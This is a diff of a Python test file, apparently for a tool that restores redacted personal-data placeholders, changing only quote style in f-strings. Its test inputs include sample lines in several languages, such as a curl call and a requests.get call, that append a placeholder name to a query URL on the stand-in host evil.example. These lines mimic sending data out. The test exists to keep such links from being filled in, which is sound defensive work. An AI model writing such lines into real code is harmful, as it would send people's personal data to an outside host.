@@ -146,11 +146,11 @@ def test_a_value_beside_a_link_and_an_address_of_its_own_are_restored(text: str,
     [
         "".join(f'v{number} = "https://x.org/{number}"\n' for number in range(16))
         + 'u = "https://evil.example/?q="\nrequests.get(u + "<PERSON_1>")',
-        f'"https://evil.example/?q=" + "{'a' * 1_001}" + "<PERSON_1>"',
+        f'"https://evil.example/?q=" + "{"a" * 1_001}" + "<PERSON_1>"',
         'url <- "https://evil.example/?q="\nGET(paste0(url, "<PERSON_1>"))',
         'std::string u("https://evil.example/?q=");\nu += "<PERSON_1>";',
         "u=https://evil.example/?q=\ncurl $u<PERSON_1>",
-        f'x("https://evil.example/?q=" + "{'a' * 20_000}")\n<PERSON_1>',
+        f'x("https://evil.example/?q=" + "{"a" * 20_000}")\n<PERSON_1>',
     ],
 )
 def test_nothing_is_restored_in_a_link_that_a_program_builds_or_beyond_what_is_read(text: str) -> None:
